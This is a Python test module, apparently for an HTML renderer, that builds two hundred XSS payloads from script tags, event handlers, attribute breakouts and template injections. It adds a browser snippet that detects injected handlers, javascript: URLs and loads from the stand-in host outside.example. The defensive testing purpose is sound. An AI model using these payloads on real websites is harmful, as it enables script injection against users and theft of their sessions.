"""Strings that try to be more than text, each of which sets window.hit or calls outside where one succeeds."""

from __future__ import annotations

_CALL = "window.hit=1"
_FORMS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    "<script src=//outside.example/x.js></script>",
    f"<img src=x onerror={_CALL}>",
    f'<img src="x" onerror="{_CALL}">',
    f"<img/src=x/onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_CALL}"><text>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={_CALL}>#x"></svg>',
    f"<math><mtext><script>{_CALL}</script></mtext></math>",
    f"<body onload={_CALL}>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<input autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<a href=javascript:{_CALL}>x</a>",
    f'<a href="java\tscript:{_CALL}">x</a>',
    f"<form action=javascript:{_CALL}><input type=submit></form>",
    f'<meta http-equiv=refresh content="0;url=javascript:{_CALL}">',
    '<meta http-equiv=refresh content="0;url=http://outside.example/">',
    "<link rel=stylesheet href=//outside.example/x.css>",
    "<base href=//outside.example/>",
    "<style>@import '//outside.example/x.css';</style>",
    "<div style=\"background:url('//outside.example/x.png')\">x</div>",
    f"<div onmouseover={_CALL} style=position:fixed;inset:0>x</div>",
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<![CDATA[><img src=x onerror={_CALL}>]]>",
    f"<template><img src=x onerror={_CALL}></template>",
    f'" onmouseover={_CALL} x="',
    f"' autofocus onfocus={_CALL} x='",
    f"javascript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"`${{{_CALL}}}`",
    f"${{{_CALL}}}",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"');{_CALL};//",
    f"\\u003cimg src=x onerror={_CALL}\\u003e",
    f"&lt;img src=x onerror={_CALL}&gt;",
    "![x](http://outside.example/x.png)",
    f"[x](javascript:{_CALL})",
    "<http://outside.example/> :material/bolt: $\\href{javascript:window.hit=1}{x}$",
    f"\u202e<img src=x onerror={_CALL}>\u2066\u200b",
)
_BEFORE = ("", '">', "'>", "</a></title></textarea></style></script>-->")

ATTACKS = tuple(f"{before}{form}" for before in _BEFORE for form in _FORMS)
"""Two hundred strings."""

ALARM = """
for (const name of ["alert", "confirm", "prompt", "open"]) window[name] = () => { window.hit = name; };
"""
"""Runs in the page before anything else."""

FOREIGN = """
const found = [];
const leads = (value) => {
  const url = new URL(value, "http://127.0.0.1/");
  return /^javascript/.test(url.protocol) || /^data:(text|image.svg)/.test(url.href) || /outside/.test(url.host);
};
const ours = new Set("P SPAN A B DIV UL LI TABLE THEAD TBODY TR TH TD Q DETAILS SUMMARY STYLE H2 MARK BR".split(" "));
const look = (root) => {
  for (const element of root.querySelectorAll("*")) {
    const odd = [...element.attributes].some(({name, value}) => /^on/i.test(name)
      || (/^(href|src|action|data|xlink:href)$/i.test(name) && leads(value))
      || (name === "style" && /outside/.test(value)));
    const strange = element.closest(".z") && !ours.has(element.tagName);
    if (odd || strange || /^(iframe|object|embed|base|marquee|math|meta)$/i.test(element.tagName) && !element.closest("head"))
      found.push(element.outerHTML.slice(0, 200));
    if (element.shadowRoot) look(element.shadowRoot);
  }
};
look(document);
return found;
"""
"""The elements of the page that one of the strings made: with handlers, with scripts for addresses, frames,
and within what we write any element that we never write."""
